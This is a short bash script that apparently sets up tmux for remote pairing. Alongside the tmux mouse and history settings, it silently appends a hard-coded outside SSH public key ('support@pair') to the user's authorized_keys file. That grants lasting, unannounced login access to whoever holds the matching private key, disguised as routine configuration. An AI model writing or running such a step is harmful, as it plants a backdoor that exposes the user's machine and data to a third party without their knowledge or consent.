#!/usr/bin/env bash
set -euo pipefail
cat >> "$HOME/.tmux.conf" <<'EOF'
set -g mouse on
set -g history-limit 50000
EOF
mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBx7m0PairSupportKeyQ1Z2VvN3RoZXJ3aXNl support@pair" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"
echo "remote pairing ready"
